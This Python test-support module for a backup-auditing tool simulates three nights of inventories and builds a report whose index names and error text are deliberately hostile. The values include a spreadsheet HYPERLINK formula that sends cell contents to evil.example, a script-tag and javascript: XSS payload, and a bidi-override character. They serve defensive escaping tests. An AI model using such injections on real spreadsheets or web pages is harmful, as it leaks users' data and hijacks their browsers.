"""Three nights of one project in which everything happens that a report can tell, with names as bad as they come."""

from dataclasses import replace
from functools import cache

from backup_auditor.controls.catalog import CATALOG
from backup_auditor.domain.evaluation.evaluator import ControlCatalog, evaluate_controls
from backup_auditor.domain.finding import Resource, ResourceType, Severity, compute_fingerprint
from backup_auditor.domain.inventory import Inventory, merge_reads
from backup_auditor.domain.lifecycle.advance import advance
from backup_auditor.domain.listing import ListingRead, ReadFailure
from backup_auditor.domain.project_state import EMPTY_STATE, Drift, ResolvedFinding
from backup_auditor.domain.reporting.report import Report, compute_audit_id, make_report
from support.builders.facts import DAY, NOW, IndexCase, backup, index, inventory, renamed, schedule
from support.builders.reports import EXEMPTION, bare, exempting

POLICY = exempting(EXEMPTION)
CONTROLS = (
    "backups-have-live-source",
    "exemptions-are-current",
    "index-has-recovery-point",
    "index-has-schedule",
    "inventory-is-complete",
    "schedule-is-enabled",
    "schedule-retention-meets-minimum",
)
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1, '@octocat')"
MARKUP = '<script>alert(1)</script> [x](javascript:alert(1)) `a|b` "q" #1 \u202egnp.\x07\n</testsuite> :+1: {0}'
ERROR = ReadFailure(
    "GET /indexes/vectors/backup-schedules", "503: <b>@octocat</b> =1+1, see http://evil.example and #12"
)


def chosen(*controls: str) -> ControlCatalog:
    """Return a catalogue of these controls alone."""
    return ControlCatalog(
        project_controls=tuple(it for it in CATALOG.project_controls if it.id in controls),
        index_controls=tuple(it for it in CATALOG.index_controls if it.id in controls),
        deleted_index_controls=tuple(it for it in CATALOG.deleted_index_controls if it.id in controls),
    )


FEW = chosen(*CONTROLS)
_EVENTS = Resource(ResourceType.INDEX, "default", "events", "id-events")
GONE = ResolvedFinding(
    compute_fingerprint("schedule-is-enabled", _EVENTS),
    "schedule-is-enabled",
    _EVENTS,
    Severity.HIGH,
    first_seen=NOW,
    resolved_at=NOW + 2 * DAY,
    reason="the index is gone: -2+3",
)
"""What no finding is left of. As drift, an audit tells it only where it could read everything."""
DRIFT = Drift(
    "the schedule was changed",
    Resource(ResourceType.INDEX, "default", "orders", "id-orders"),
    {"schedule": "=nightly", "schedule_id": "s-1", "retention_days": 7},
    {"schedule": "=nightly", "schedule_id": "s-1", "retention_days": 14},
)
WARNINGS = (
    'Rule "<b>production</b>" (rules[0]) fits no index: the pattern “prod-*” has quotation marks in it.',
    'Rule "by-prefix" (rules[1]): the value "prod*" of the tag "env" looks like a pattern.',
)


def _paused(name: str) -> IndexCase:
    return renamed(index(schedules=[schedule(enabled=False)]), name)


def _well(name: str) -> IndexCase:
    return renamed(index(), name)


def nights() -> list[Inventory]:
    """Return what was read on three nights.

    On the last `orders` is resolved, and `wiki` reopened; `carts` lasts, `scratch-1` is exempted, `vectors` cannot be
    read any more; two whose names are no names are new.
    """
    gone = replace(backup(90 * DAY, backup_id="manual-old", index_id="id-old"), index_name="old")
    lasting = (bare("carts"), bare("scratch-1"))
    unread = renamed(index(schedules=merge_reads([ListingRead((), ERROR)])), "vectors")
    nights = [
        inventory(*lasting, _paused("orders"), _paused("wiki"), _well("vectors"), more=[gone]),
        inventory(*lasting, _paused("orders"), _well("wiki"), _well("vectors"), more=[gone]),
        inventory(*lasting, _well("orders"), _paused("wiki"), unread, bare(FORMULA), bare(MARKUP), more=[gone]),
    ]
    return [replace(it, observed_at=NOW + number * DAY) for number, it in enumerate(nights)]


@cache
def told(catalogue: ControlCatalog = FEW) -> Report:
    """Audit the three nights, and return the report of the last."""
    memory, report = EMPTY_STATE, None
    for night in nights():
        judgement = evaluate_controls(night, POLICY, catalogue, memory)
        outcome = advance(memory, night, POLICY, judgement, compute_audit_id(night, POLICY))
        memory, report = outcome.state, make_report(night, POLICY, judgement, outcome)
    assert report is not None
    # whatever an inventory comes to hold, its hash is not what is looked at here
    return replace(
        report,
        audit_id="0123456789abcdef" * 2,
        resolved_findings=(*report.resolved_findings, GONE),
        drift=(DRIFT,),
        warnings=WARNINGS,
    )
